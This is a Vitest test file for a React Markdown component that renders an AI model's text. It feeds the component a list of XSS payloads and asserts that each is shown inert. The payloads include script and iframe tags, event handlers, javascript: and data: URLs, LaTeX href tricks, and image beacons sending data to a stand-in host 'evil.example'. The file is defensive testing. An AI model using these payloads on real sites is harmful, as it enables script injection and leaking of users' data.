// @vitest-environment jsdom
import { render, screen, waitFor } from "@testing-library/react";
import { beforeEach, describe, expect, test } from "vitest";
import { Markdown } from "../src/markdown/markdown";

declare global {
  interface Window {
    hacked?: unknown;
  }
}

const ATTACKS = [
  "<script>window.hacked = 1</script>",
  "<img src=x onerror='window.hacked = 1'>",
  '<iframe src="https://evil.example"></iframe>',
  "[a](javascript:window.hacked=1)",
  "[a](JaVaScRiPt:window.hacked=1)",
  "[a](&#106;avascript:window.hacked=1)",
  "[a](data:text/html,<script>window.hacked=1</script>)",
  "[a](vbscript:x)",
  "<javascript:alert(1)>",
  "![beacon](https://evil.example/pixel?secret)",
  "![beacon](//evil.example/pixel)",
  "![beacon](data:image/svg+xml,<svg onload='window.hacked=1'>)",
  "![beacon](/v1/session)",
  "![beacon](/v1/runs/other/artifacts/plot.png)",
  "![beacon](../../session)",
  "![beacon][1]\n\n[1]: https://evil.example/pixel",
  "[a][1]\n\n[1]: javascript:window.hacked=1",
  '<a href="javascript:window.hacked=1" onclick="window.hacked=1">a</a>',
  "<style>body{background:url(https://evil.example)}</style>",
  "$\\href{javascript:alert(1)}{x}$",
  "$\\includegraphics{https://evil.example/x.png}$",
  "$\\htmlData{a=b}{x}\\class{z}{y}\\style{background:url(https://evil.example)}{z}$",
  "```html\n<script>window.hacked = 1</script>\n```",
];

describe("a model's text", () => {
  beforeEach(() => {
    delete window.hacked;
  });

  test.each(ATTACKS)("is shown inert: %s", async (attack) => {
    const { container } = render(<Markdown text={attack} run="r1" />);
    if (attack.startsWith("$"))
      await waitFor(() => expect(container.querySelector(".formula")?.textContent).toBeTruthy());
    const bad = "script, iframe, object, embed, style, link, base, form, [onerror], [onload], [onclick], [srcdoc]";
    expect(container.querySelectorAll(bad)).toHaveLength(0);
    for (const element of container.querySelectorAll("[href], [src]")) {
      expect(element.getAttribute("href") ?? element.getAttribute("src")).not.toMatch(
        /javascript|vbscript|data:|evil|session/i,
      );
    }
    expect(container.querySelectorAll("img")).toHaveLength(0);
    expect(window.hacked).toBeUndefined();
  });

  test("opens real links elsewhere without telling where from", () => {
    render(<Markdown text="[here](https://example.org/a)" run={null} />);
    const link = screen.getByRole("link");
    expect(link.getAttribute("href")).toBe("https://example.org/a");
    expect(link.getAttribute("rel")).toContain("noopener");
    expect(link.getAttribute("rel")).toContain("noreferrer");
  });

  test("shows pictures that this run made, and no others", () => {
    const { container } = render(
      <Markdown text={"![plot](plot.png) ![x](/v1/runs/r1/artifacts/a%20b.png)"} run="r1" />,
    );
    const sources = [...container.querySelectorAll("img")].map((img) => img.getAttribute("src"));
    expect(sources).toEqual(["/v1/runs/r1/artifacts/plot.png", "/v1/runs/r1/artifacts/a%20b.png"]);
  });

  test("draws formulas once their renderer is loaded, and broken ones as they stand", async () => {
    const { container } = render(<Markdown text={"so $x^2$ and $\\frac{1}$ end"} run={null} />);
    await waitFor(() => expect(container.querySelector(".katex")).not.toBeNull());
    expect(container.textContent).toContain("\\frac{1}");
    expect(container.querySelectorAll("[style*='color']")).toHaveLength(0);
  });

  test("colours code and offers to copy it", async () => {
    const { container } = render(<Markdown text={"```python\ndef f(): return 1\n```"} run={null} />);
    expect(screen.getByRole("button", { name: "Copy code" })).toBeTruthy();
    await waitFor(() => expect(container.querySelector(".hljs-keyword")?.textContent).toBe("def"));
  });

  test("draws tables and task lists", () => {
    render(<Markdown text={"| a | b |\n|---|---|\n| 1 | 2 |\n\n- [x] done"} run={null} />);
    expect(screen.getByRole("table").textContent).toBe("ab12");
    expect(screen.getByRole("checkbox", { name: "done" })).toBeTruthy();
  });
});
